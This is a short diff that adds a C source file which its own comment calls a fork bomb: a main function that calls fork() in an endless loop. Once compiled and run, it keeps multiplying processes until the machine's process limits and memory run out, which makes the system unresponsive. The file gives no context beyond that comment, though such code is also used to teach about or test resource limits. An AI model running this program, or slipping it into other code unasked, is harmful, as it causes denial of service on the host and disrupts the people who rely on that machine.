@@ -1,0 +1,8 @@
+/* A fork bomb: every process forks forever. */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
